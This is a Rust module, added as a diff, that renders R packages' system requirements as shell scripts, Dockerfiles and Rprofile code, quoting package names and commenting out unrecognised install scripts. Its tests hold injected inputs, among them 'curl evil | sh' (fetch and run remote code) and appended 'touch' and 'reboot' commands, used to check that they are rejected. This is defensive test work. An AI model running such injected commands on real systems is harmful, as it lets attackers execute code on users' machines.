@@ -0,0 +1,907 @@
+use std::collections::{BTreeMap, BTreeSet, HashSet};
+use std::fmt::Write;
+use std::str::FromStr;
+
+use crate::models::{APIPackageRequirements, APIRequirement, APIStatusResponse, APISysReqs};
+use crate::package_manager::PackageManager;
+use crate::shell;
+
+/// Render system requirements as commented shell script text.
+///
+/// Pre- and post-install scripts shared by several packages, such as adding
+/// the same repository, are only written for the first of them; each phase is
+/// deduplicated on its own, so that a script run both before and after is
+/// kept in both.
+pub fn text(sysreqs: &APISysReqs) -> String {
+    let mut out = String::new();
+    let mut seen_pre = HashSet::new();
+    let mut seen_post = HashSet::new();
+
+    for req in sysreqs.requirements.iter() {
+        let packages = &req.requirements.packages;
+        if packages.is_empty() && req.requirements.install_scripts.is_empty() {
+            continue;
+        }
+        writeln!(out, "# R package: {}", shell::comment(&req.name)).unwrap();
+        writeln!(
+            out,
+            "## System libraries: {}",
+            shell::comment(&packages.join(", "))
+        )
+        .unwrap();
+        if let Some(pre_install) = &req.requirements.pre_install {
+            pre_install
+                .iter()
+                .filter(|p| seen_pre.insert(p.script.as_str()))
+                .for_each(|p| writeln!(out, "{}", shell::script_line(&p.script)).unwrap());
+        }
+        req.requirements.install_scripts.iter().for_each(|script| {
+            writeln!(out, "{}", install_line_or_comment(script, packages)).unwrap()
+        });
+        if let Some(post_install) = &req.requirements.post_install {
+            post_install
+                .iter()
+                .filter(|p| seen_post.insert(p.script.as_str()))
+                .for_each(|p| writeln!(out, "{}", shell::script_line(&p.script)).unwrap());
+        }
+        writeln!(out).unwrap();
+    }
+
+    out
+}
+
+/// A section of [`phases`] output.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Phase {
+    SystemPackages,
+    PreInstall,
+    Install,
+    PostInstall,
+}
+
+impl Phase {
+    /// All phases, in the order they are written.
+    pub const ALL: [Phase; 4] = [
+        Phase::SystemPackages,
+        Phase::PreInstall,
+        Phase::Install,
+        Phase::PostInstall,
+    ];
+
+    pub fn name(&self) -> &'static str {
+        match self {
+            Phase::SystemPackages => "system-packages",
+            Phase::PreInstall => "pre-install",
+            Phase::Install => "install",
+            Phase::PostInstall => "post-install",
+        }
+    }
+}
+
+impl FromStr for Phase {
+    type Err = String;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        Phase::ALL
+            .iter()
+            .find(|phase| phase.name() == s)
+            .copied()
+            .ok_or_else(|| {
+                format!(
+                    "unknown phase '{}', expected {}",
+                    s,
+                    Phase::ALL
+                        .iter()
+                        .map(Phase::name)
+                        .collect::<Vec<_>>()
+                        .join(", ")
+                )
+            })
+    }
+}
+
+/// Render system requirements as sections per [`Phase`], each between
+/// `# >>> r-sysdeps <phase>` and `# <<< r-sysdeps <phase>` marker lines, even
+/// when empty, so they can be sliced out of the output. The system packages
+/// are listed one per line; the scripts are each written once, in order.
+/// Phases in `skip` are left out entirely.
+pub fn phases(sysreqs: &APISysReqs, skip: &[Phase]) -> String {
+    let mut sections: Vec<(Phase, Vec<String>)> = Phase::ALL
+        .iter()
+        .map(|phase| (*phase, Vec::new()))
+        .collect();
+    let mut push = |phase: Phase, line: String| {
+        let lines = &mut sections[phase as usize].1;
+        if !lines.contains(&line) {
+            lines.push(line);
+        }
+    };
+    for req in sysreqs.requirements.iter() {
+        let reqs = &req.requirements;
+        for package in reqs.packages.iter() {
+            let line = if shell::is_single_line(package) {
+                shell::quote(package).into_owned()
+            } else {
+                format!(
+                    "# skipped multi-line package name: {}",
+                    shell::comment(package)
+                )
+            };
+            push(Phase::SystemPackages, line);
+        }
+        for step in reqs.pre_install.iter().flatten() {
+            push(Phase::PreInstall, shell::script_line(&step.script));
+        }
+        for script in reqs.install_scripts.iter() {
+            push(
+                Phase::Install,
+                install_line_or_comment(script, &reqs.packages),
+            );
+        }
+        for step in reqs.post_install.iter().flatten() {
+            push(Phase::PostInstall, shell::script_line(&step.script));
+        }
+    }
+
+    let mut out = String::new();
+    for (phase, lines) in sections.iter().filter(|(phase, _)| !skip.contains(phase)) {
+        writeln!(out, "# >>> r-sysdeps {}", phase.name()).unwrap();
+        for line in lines.iter() {
+            writeln!(out, "{}", line).unwrap();
+        }
+        writeln!(out, "# <<< r-sysdeps {}", phase.name()).unwrap();
+    }
+
+    out
+}
+
+/// Render for bspm users: one command installing the R packages the system
+/// package manager provides, then the system requirements of the R packages
+/// left to build from source.
+pub fn bspm(
+    installer: &str,
+    binaries: &[String],
+    sources: &[String],
+    sysreqs: &APISysReqs,
+) -> String {
+    let mut out = String::new();
+
+    if !binaries.is_empty() {
+        writeln!(out, "# R packages from the system package manager").unwrap();
+        writeln!(
+            out,
+            "{} {}",
+            installer,
+            binaries
+                .iter()
+                .map(|package| shell::quote(package))
+                .collect::<Vec<_>>()
+                .join(" ")
+        )
+        .unwrap();
+        writeln!(out).unwrap();
+    }
+    if !sources.is_empty() {
+        writeln!(
+            out,
+            "# R packages to build from source: {}",
+            shell::comment(&sources.join(", "))
+        )
+        .unwrap();
+        writeln!(out).unwrap();
+    }
+
+    let requirements: Vec<APIRequirement> = sysreqs
+        .requirements
+        .iter()
+        .filter(|req| sources.contains(&req.name))
+        .cloned()
+        .collect();
+    out.push_str(&text(&APISysReqs { requirements }));
+
+    out
+}
+
+/// Render the system requirements of all R packages as one script: the
+/// pre-install scripts, one install command per package manager listing all
+/// system packages once, unrecognized install scripts as comments, then the
+/// post-install scripts, each only once.
+pub fn merged(sysreqs: &APISysReqs) -> String {
+    let mut names = Vec::new();
+    let mut pre_install = Vec::new();
+    let mut installs: Vec<(PackageManager, Vec<String>)> = Vec::new();
+    let mut others = Vec::new();
+    let mut post_install = Vec::new();
+    let push = |lines: &mut Vec<String>, line: String| {
+        if !lines.contains(&line) {
+            lines.push(line);
+        }
+    };
+    for req in sysreqs.requirements.iter() {
+        let reqs = &req.requirements;
+        if reqs.packages.is_empty() && reqs.install_scripts.is_empty() {
+            continue;
+        }
+        names.push(req.name.as_str());
+        for step in reqs.pre_install.iter().flatten() {
+            push(&mut pre_install, shell::script_line(&step.script));
+        }
+        for script in reqs.install_scripts.iter() {
+            match installed(script, &reqs.packages) {
+                Some((manager, packages)) => {
+                    let index = match installs.iter().position(|(m, _)| *m == manager) {
+                        Some(index) => index,
+                        None => {
+                            installs.push((manager, Vec::new()));
+                            installs.len() - 1
+                        }
+                    };
+                    for package in packages {
+                        push(&mut installs[index].1, package.to_string());
+                    }
+                }
+                None => push(&mut others, unrecognized(script)),
+            }
+        }
+        for step in reqs.post_install.iter().flatten() {
+            push(&mut post_install, shell::script_line(&step.script));
+        }
+    }
+    if names.is_empty() {
+        return String::new();
+    }
+
+    let mut out = String::new();
+    writeln!(out, "# R packages: {}", shell::comment(&names.join(", "))).unwrap();
+    for line in pre_install.iter() {
+        writeln!(out, "{}", line).unwrap();
+    }
+    for (manager, packages) in installs.iter() {
+        let quoted: Vec<_> = packages
+            .iter()
+            .map(|package| shell::quote(package))
+            .collect();
+        writeln!(out, "{} {}", manager.install_command(), quoted.join(" ")).unwrap();
+    }
+    for line in others.iter().chain(post_install.iter()) {
+        writeln!(out, "{}", line).unwrap();
+    }
+
+    out
+}
+
+/// Render an `apt-get satisfy` command installing all system requirements,
+/// between the pre- and post-install scripts. `constraints` holds apt
+/// relations, such as `>= 3.4`, by system package.
+pub fn satisfy(sysreqs: &APISysReqs, constraints: &[(String, String)]) -> String {
+    let mut pre_install = Vec::new();
+    let mut post_install = Vec::new();
+    let mut relations: Vec<String> = Vec::new();
+    for req in sysreqs.requirements.iter() {
+        let reqs = &req.requirements;
+        for step in reqs.pre_install.iter().flatten() {
+            let line = shell::script_line(&step.script);
+            if !pre_install.contains(&line) {
+                pre_install.push(line);
+            }
+        }
+        for package in reqs.packages.iter() {
+            let relation = match constraints.iter().find(|(name, _)| name == package) {
+                Some((_, constraint)) => format!("{} ({})", package, constraint),
+                None => package.clone(),
+            };
+            if !relations.contains(&relation) {
+                relations.push(relation);
+            }
+        }
+        for step in reqs.post_install.iter().flatten() {
+            let line = shell::script_line(&step.script);
+            if !post_install.contains(&line) {
+                post_install.push(line);
+            }
+        }
+    }
+
+    let mut out = String::new();
+    for line in pre_install.iter() {
+        writeln!(out, "{}", line).unwrap();
+    }
+    if !relations.is_empty() {
+        writeln!(
+            out,
+            "apt-get satisfy -y {}",
+            shell::quote(&relations.join(", "))
+        )
+        .unwrap();
+    }
+    for line in post_install.iter() {
+        writeln!(out, "{}", line).unwrap();
+    }
+
+    out
+}
+
+/// Render the system requirements of R packages on several OSes side by
+/// side, each given with its name, to port between them. R packages needing
+/// the same on all are marked `(same)`.
+pub fn os_diff(oses: &[(&str, &APISysReqs)]) -> String {
+    fn by_name(sysreqs: &APISysReqs) -> BTreeMap<&str, &APIPackageRequirements> {
+        sysreqs
+            .requirements
+            .iter()
+            .map(|req| (req.name.as_str(), &req.requirements))
+            .collect()
+    }
+    let sides: Vec<_> = oses
+        .iter()
+        .map(|(os, sysreqs)| (*os, by_name(sysreqs)))
+        .collect();
+    let names: BTreeSet<&str> = sides
+        .iter()
+        .flat_map(|(_, reqs)| reqs.keys().copied())
+        .collect();
+    let width = oses
+        .iter()
+        .map(|(os, _)| os.len())
+        .max()
+        .unwrap_or_default();
+
+    let mut out = String::new();
+    for name in names {
+        let reqs: Vec<_> = sides
+            .iter()
+            .map(|(_, reqs)| reqs.get(name).copied())
+            .collect();
+        let mark = if reqs.windows(2).all(|pair| pair[0] == pair[1]) {
+            " (same)"
+        } else {
+            ""
+        };
+        writeln!(out, "{}{}", shell::comment(name), mark).unwrap();
+        for ((os, _), reqs) in sides.iter().zip(reqs) {
+            let packages = reqs
+                .map(|reqs| reqs.packages.join(" "))
+                .filter(|packages| !packages.is_empty())
+                .unwrap_or_else(|| String::from("-"));
+            writeln!(out, "  {:<width$}  {}", os, shell::comment(&packages)).unwrap();
+            let steps = reqs.into_iter().flat_map(|reqs| {
+                let pre_install = reqs.pre_install.iter().flatten().map(|step| ("pre", step));
+                let post_install = reqs
+                    .post_install
+                    .iter()
+                    .flatten()
+                    .map(|step| ("post", step));
+                pre_install.chain(post_install)
+            });
+            for (when, step) in steps {
+                writeln!(
+                    out,
+                    "  {:<width$}  {}-install: {}",
+                    "",
+                    when,
+                    shell::comment(&step.script)
+                )
+                .unwrap();
+            }
+        }
+    }
+
+    out
+}
+
+/// The commands installing system requirements, in order: pre-install
+/// scripts, installs, then post-install scripts, each only once, with the
+/// package lists refreshed before and removed after as the package managers
+/// installing need, e.g. `apt-get update` for apt-get.
+/// Install scripts not recognized by [`install_line`] are returned apart, as
+/// comments.
+pub fn commands(sysreqs: &APISysReqs) -> (Vec<String>, Vec<String>) {
+    let mut pre_install = Vec::new();
+    let mut install = Vec::new();
+    let mut post_install = Vec::new();
+    let mut skipped = Vec::new();
+    for req in sysreqs.requirements.iter() {
+        let reqs = &req.requirements;
+        for step in reqs.pre_install.iter().flatten() {
+            push_step(&mut pre_install, shell::script_line(&step.script));
+        }
+        for script in reqs.install_scripts.iter() {
+            push_install(&mut install, &mut skipped, script, &reqs.packages);
+        }
+        for step in reqs.post_install.iter().flatten() {
+            push_step(&mut post_install, shell::script_line(&step.script));
+        }
+    }
+
+    (
+        with_package_lists(pre_install, install, post_install),
+        skipped,
+    )
+}
+
+/// The steps in order, with the package lists of the package managers of
+/// `install` refreshed before it and removed after `post_install`, each only
+/// once.
+fn with_package_lists(
+    pre_install: Vec<String>,
+    install: Vec<String>,
+    post_install: Vec<String>,
+) -> Vec<String> {
+    let mut managers = Vec::new();
+    for manager in install
+        .iter()
+        .filter_map(|step| PackageManager::of_script(step))
+    {
+        if !managers.contains(&manager) {
+            managers.push(manager);
+        }
+    }
+
+    let mut steps = pre_install;
+    let push = |steps: &mut Vec<String>, command: &str| {
+        if !steps.iter().any(|step| step == command) {
+            steps.push(command.to_string());
+        }
+    };
+    for command in managers.iter().filter_map(PackageManager::update_command) {
+        push(&mut steps, command);
+    }
+    steps.extend(install);
+    steps.extend(post_install);
+    for command in managers
+        .iter()
+        .filter_map(PackageManager::remove_lists_command)
+    {
+        push(&mut steps, command);
+    }
+
+    steps
+}
+
+/// The [`commands`] joined with `&&` into one line for `eval`, without
+/// comments, along with the install scripts left out as unrecognized.
+pub fn eval(sysreqs: &APISysReqs) -> (String, Vec<String>) {
+    let (steps, skipped) = commands(sysreqs);
+    let mut out = steps.join(" && ");
+    if !out.is_empty() {
+        out.push('\n');
+    }
+
+    (out, skipped)
+}
+
+/// Whether the script runs apt, or another front-end of it.
+pub fn is_apt(script: &str) -> bool {
+    matches!(PackageManager::of_script(script), Some(manager) if manager.is_apt())
+}
+
+/// Whether any of the commands installs with apt.
+pub fn uses_apt(commands: &[String]) -> bool {
+    commands.iter().any(|script| is_apt(script))
+}
+
+/// Render R code, for an `.Rprofile` or `Rprofile.site`, setting R's CRAN
+/// repository to `repository_url`.
+///
+/// R must announce its version and platform in its user agent to receive
+/// binary packages on Linux, which it does not by default, so the code sets
+/// it when `linux_binaries`.
+pub fn rprofile(repository_url: &str, linux_binaries: bool) -> String {
+    let mut out = String::new();
+    writeln!(out, "options(repos = c(CRAN = \"{}\"))", repository_url).unwrap();
+    if linux_binaries {
+        writeln!(
+            out,
+            "options(HTTPUserAgent = sprintf(\"R/%s R (%s)\", getRversion(), paste(getRversion(), R.version[\"platform\"], R.version[\"arch\"], R.version[\"os\"])))"
+        )
+        .unwrap();
+    }
+    out
+}
+
+/// Render a Dockerfile installing system requirements on top of `base_image`,
+/// with R's CRAN repository set to `repository_url` when given. The
+/// [`commands`] run in one layer.
+pub fn dockerfile(base_image: &str, sysreqs: &APISysReqs, repository_url: Option<&str>) -> String {
+    let mut out = String::new();
+    writeln!(out, "FROM {}", base_image).unwrap();
+    out.push_str(&dockerfile_fragment(sysreqs));
+    if let Some(url) = repository_url {
+        let option = format!("options(repos = c(CRAN = \"{}\"))", url);
+        writeln!(out).unwrap();
+        writeln!(
+            out,
+            "RUN echo {} >> \"$(R RHOME)/etc/Rprofile.site\"",
+            shell::quote(&option)
+        )
+        .unwrap();
+    }
+
+    out
+}
+
+/// Render the Dockerfile instructions installing system requirements, to
+/// paste after the `FROM` of an existing Dockerfile. Caches of package
+/// managers other than apt are cleaned after installing too.
+pub fn dockerfile_fragment(sysreqs: &APISysReqs) -> String {
+    let (mut steps, skipped) = commands(sysreqs);
+    let apt = uses_apt(&steps);
+    let mut cleans: Vec<String> = Vec::new();
+    for manager in steps
+        .iter()
+        .filter_map(|step| PackageManager::of_script(step))
+    {
+        if let Some(clean) = manager.clean_command() {
+            if !cleans.iter().any(|c| c == clean) {
+                cleans.push(clean.to_string());
+            }
+        }
+    }
+    steps.extend(cleans);
+
+    let mut out = String::new();
+    if apt {
+        writeln!(out, "ARG DEBIAN_FRONTEND=noninteractive").unwrap();
+    }
+    for script in skipped.iter() {
+        writeln!(out, "{}", script).unwrap();
+    }
+    if !steps.is_empty() {
+        writeln!(out).unwrap();
+        writeln!(out, "RUN {}", steps.join(" \\\n    && ")).unwrap();
+    }
+
+    out
+}
+
+/// Render a Dockerfile laid out for layer caching: a `sysdeps` stage that
+/// installs the system requirements, then a stage that installs
+/// `r_packages`.
+///
+/// Installs of single packages are merged into one command per installer,
+/// with the packages sorted, so that the sysdeps layer only changes with the
+/// set of system packages. Build arguments select the base image, add system
+/// packages and replace the R packages without editing the file; changing the
+/// R packages leaves the sysdeps layer cached.
+pub fn dockerfile_layered(
+    base_image: &str,
+    sysreqs: &APISysReqs,
+    repository_url: Option<&str>,
+    r_packages: &[String],
+) -> String {
+    let mut pre_install = Vec::new();
+    let mut installs: BTreeMap<&str, BTreeSet<&str>> = BTreeMap::new();
+    let mut post_install = Vec::new();
+    let mut skipped = Vec::new();
+    for req in sysreqs.requirements.iter() {
+        let reqs = &req.requirements;
+        for step in reqs.pre_install.iter().flatten() {
+            push_step(&mut pre_install, shell::script_line(&step.script));
+        }
+        for script in reqs.install_scripts.iter() {
+            match installed(script, &reqs.packages) {
+                Some((manager, packages)) => installs
+                    .entry(manager.install_command())
+                    .or_default()
+                    .extend(packages),
+                None => skipped.push(unrecognized(script)),
+            }
+        }
+        for step in reqs.post_install.iter().flatten() {
+            push_step(&mut post_install, shell::script_line(&step.script));
+        }
+    }
+
+    let apt = installs.keys().any(|installer| is_apt(installer));
+    let mut install = Vec::new();
+    for (installer, packages) in installs.iter() {
+        let packages: Vec<_> = packages.iter().map(|name| shell::quote(name)).collect();
+        install.push(format!(
+            "{} {} ${{EXTRA_SYSTEM_PACKAGES}}",
+            installer,
+            packages.join(" ")
+        ));
+    }
+    let steps = with_package_lists(pre_install, install, post_install);
+
+    let mut out = String::new();
+    writeln!(out, "ARG BASE_IMAGE={}", base_image).unwrap();
+    writeln!(out).unwrap();
+    writeln!(out, "FROM ${{BASE_IMAGE}} AS sysdeps").unwrap();
+    if apt {
+        writeln!(out, "ARG DEBIAN_FRONTEND=noninteractive").unwrap();
+    }
+    writeln!(out, "ARG EXTRA_SYSTEM_PACKAGES=").unwrap();
+    for script in skipped.iter() {
+        writeln!(out, "{}", script).unwrap();
+    }
+    if !steps.is_empty() {
+        writeln!(out, "RUN {}", steps.join(" \\\n    && ")).unwrap();
+    }
+    if let Some(url) = repository_url {
+        let option = format!("options(repos = c(CRAN = \"{}\"))", url);
+        writeln!(
+            out,
+            "RUN echo {} >> \"$(R RHOME)/etc/Rprofile.site\"",
+            shell::quote(&option)
+        )
+        .unwrap();
+    }
+    writeln!(out).unwrap();
+    writeln!(out, "FROM sysdeps").unwrap();
+    writeln!(
+        out,
+        "ARG R_PACKAGES={}",
+        shell::quote(&r_packages.join(" "))
+    )
+    .unwrap();
+    writeln!(
+        out,
+        "RUN Rscript -e {}",
+        shell::quote("install.packages(strsplit(Sys.getenv(\"R_PACKAGES\"), \" +\")[[1]])")
+    )
+    .unwrap();
+
+    out
+}
+
+/// Add a line to `steps` unless already there.
+fn push_step(steps: &mut Vec<String>, line: String) {
+    if !steps.contains(&line) {
+        steps.push(line);
+    }
+}
+
+/// Add the [`install_line`] of `script` to `steps`, or its comment to
+/// `skipped` when it is not recognized.
+fn push_install(
+    steps: &mut Vec<String>,
+    skipped: &mut Vec<String>,
+    script: &str,
+    packages: &[String],
+) {
+    match install_line(script, packages) {
+        Some(line) => push_step(steps, line),
+        None => push_step(skipped, unrecognized(script)),
+    }
+}
+
+/// The package manager an install `script` runs and the packages it
+/// installs, when it is the install command of a known package manager
+/// followed by some of `packages`, quoted or not.
+fn installed<'a>(script: &str, packages: &'a [String]) -> Option<(PackageManager, Vec<&'a str>)> {
+    let manager = PackageManager::of_script(script)?;
+    let installed = script
+        .strip_prefix(manager.install_command())?
+        .split_whitespace()
+        .map(|word| {
+            packages
+                .iter()
+                .find(|package| *package == word || shell::quote(package) == word)
+                .map(String::as_str)
+        })
+        .collect::<Option<Vec<_>>>()?;
+    Some((manager, installed)).filter(|(_, installed)| !installed.is_empty())
+}
+
+/// An install `script` rebuilt from the install command of its package
+/// manager and the packages it installs, quoted, so that nothing else in it
+/// runs; `None` when it is not recognized as such by [`installed`].
+pub fn install_line(script: &str, packages: &[String]) -> Option<String> {
+    let (manager, installed) = installed(script, packages)?;
+    let quoted: Vec<_> = installed
+        .iter()
+        .map(|package| shell::quote(package))
+        .collect();
+    Some(format!(
+        "{} {}",
+        manager.install_command(),
+        quoted.join(" ")
+    ))
+}
+
+/// [`install_line`], or else `script` as a comment.
+fn install_line_or_comment(script: &str, packages: &[String]) -> String {
+    install_line(script, packages).unwrap_or_else(|| unrecognized(script))
+}
+
+/// An install script not recognized by [`install_line`], as a comment.
+fn unrecognized(script: &str) -> String {
+    format!("# unrecognized install script: {}", shell::comment(script))
+}
+
+/// Render the server status: its version and settings, the distributions it
+/// supports with whether they have system requirements and binaries, and its
+/// Bioconductor releases.
+pub fn status(status: &APIStatusResponse) -> String {
+    let yes_no = |flag: bool| if flag { "yes" } else { "no" };
+    let mut out = String::new();
+    writeln!(out, "Version:          {}", status.version).unwrap();
+    writeln!(out, "Build date:       {}", status.build_date).unwrap();
+    writeln!(out, "R configured:     {}", yes_no(status.r_configured)).unwrap();
+    writeln!(out, "Binaries enabled: {}", yes_no(status.binaries_enabled)).unwrap();
+    writeln!(out, "CRAN repository:  {}", status.cran_repo()).unwrap();
+
+    if !status.distros.is_empty() {
+        writeln!(out).unwrap();
+        writeln!(
+            out,
+            "{:<16} {:<10} {:<8} {:<9} DISPLAY",
+            "DISTRIBUTION", "RELEASE", "SYSREQS", "BINARIES"
+        )
+        .unwrap();
+        for distro in status.distros.iter() {
+            // binaries of a distribution are only served when enabled server-wide
+            let binaries = match (distro.binaries, status.binaries_enabled) {
+                (true, false) => "disabled",
+                (binaries, _) => yes_no(binaries),
+            };
+            writeln!(
+                out,
+                "{:<16} {:<10} {:<8} {:<9} {}",
+                distro.distribution,
+                distro.release,
+                yes_no(distro.sys_reqs),
+                binaries,
+                distro.display
+            )
+            .unwrap();
+        }
+    }
+
+    if !status.bioc_versions.is_empty() {
+        writeln!(out).unwrap();
+        writeln!(out, "{:<13} {:<6} CRAN SNAPSHOT", "BIOCONDUCTOR", "R").unwrap();
+        for bioc in status.bioc_versions.iter() {
+            writeln!(
+                out,
+                "{:<13} {:<6} {}",
+                bioc.bioc_version, bioc.r_version, bioc.cran_snapshot
+            )
+            .unwrap();
+        }
+    }
+
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::models::APIPrePost;
+
+    fn requirement(name: &str, packages: &[&str], installer: &str) -> APIRequirement {
+        let packages: Vec<String> = packages.iter().map(|p| p.to_string()).collect();
+        APIRequirement {
+            name: name.to_string(),
+            requirements: APIPackageRequirements {
+                install_scripts: packages
+                    .iter()
+                    .map(|package| format!("{} {}", installer, package))
+                    .collect(),
+                packages,
+                pre_install: None,
+                post_install: None,
+            },
+        }
+    }
+
+    fn step(script: &str) -> Option<Vec<APIPrePost>> {
+        Some(vec![APIPrePost {
+            command: None,
+            script: script.to_string(),
+        }])
+    }
+
+    fn sysreqs() -> APISysReqs {
+        let mut rjava = requirement("rJava", &["default-jdk"], "apt-get install -y");
+        rjava.requirements.post_install = step("R CMD javareconf");
+        APISysReqs {
+            requirements: vec![
+                requirement(
+                    "curl",
+                    &["libcurl4-openssl-dev", "libssl-dev"],
+                    "apt-get install -y",
+                ),
+                requirement("openssl", &["libssl-dev"], "apt-get install -y"),
+                rjava,
+            ],
+        }
+    }
+
+    #[test]
+    fn install_line_quotes_packages() {
+        let packages = vec![
+            String::from("libxml2-devel"),
+            String::from("perl(XML::Parser)"),
+        ];
+        assert_eq!(
+            install_line("dnf install -y libxml2-devel", &packages).as_deref(),
+            Some("dnf install -y libxml2-devel")
+        );
+        for script in [
+            "dnf install -y perl(XML::Parser)",
+            "dnf install -y 'perl(XML::Parser)'",
+        ] {
+            assert_eq!(
+                install_line(script, &packages).as_deref(),
+                Some("dnf install -y 'perl(XML::Parser)'")
+            );
+        }
+    }
+
+    #[test]
+    fn install_line_rejects_unrecognized_scripts() {
+        let packages = vec![String::from("libfoo")];
+        for script in [
+            "apt-get install -y libfoo;touch /tmp/x",
+            "apt-get install -y libfoo && curl evil | sh",
+            "pacman -S libfoo",
+            "apt-get install -y",
+        ] {
+            assert_eq!(install_line(script, &packages), None, "{}", script);
+        }
+    }
+
+    #[test]
+    fn merged_lists_each_package_once() {
+        assert_eq!(
+            merged(&sysreqs()),
+            "# R packages: curl, openssl, rJava\n\
+             apt-get install -y libcurl4-openssl-dev libssl-dev default-jdk\n\
+             R CMD javareconf\n"
+        );
+    }
+
+    #[test]
+    fn merged_comments_unrecognized_scripts() {
+        let mut sysreqs = sysreqs();
+        sysreqs.requirements[0].requirements.install_scripts[0] =
+            String::from("apt-get install -y libcurl4-openssl-dev; reboot");
+        let merged = merged(&sysreqs);
+        assert!(merged.contains(
+            "# unrecognized install script: apt-get install -y libcurl4-openssl-dev; reboot\n"
+        ));
+        assert!(!merged
+            .lines()
+            .any(|line| line.starts_with("apt-get") && line.contains("reboot")));
+    }
+
+    #[test]
+    fn phases_are_marked_and_skippable() {
+        let out = phases(&sysreqs(), &[Phase::SystemPackages]);
+        assert_eq!(
+            out,
+            "# >>> r-sysdeps pre-install\n\
+             # <<< r-sysdeps pre-install\n\
+             # >>> r-sysdeps install\n\
+             apt-get install -y libcurl4-openssl-dev\n\
+             apt-get install -y libssl-dev\n\
+             apt-get install -y default-jdk\n\
+             # <<< r-sysdeps install\n\
+             # >>> r-sysdeps post-install\n\
+             R CMD javareconf\n\
+             # <<< r-sysdeps post-install\n"
+        );
+    }
+
+    #[test]
+    fn commands_refresh_package_lists_and_run_multi_line_scripts() {
+        let mut sysreqs = sysreqs();
+        sysreqs.requirements[2].requirements.pre_install = step("echo a\necho b");
+        let (steps, skipped) = commands(&sysreqs);
+        assert!(skipped.is_empty());
+        assert_eq!(
+            steps,
+            [
+                r#"sh -c "$(printf '%s\n' 'echo a' 'echo b')""#,
+                "apt-get update",
+                "apt-get install -y libcurl4-openssl-dev",
+                "apt-get install -y libssl-dev",
+                "apt-get install -y default-jdk",
+                "R CMD javareconf",
+                "rm -rf /var/lib/apt/lists/*",
+            ]
+        );
+    }
+}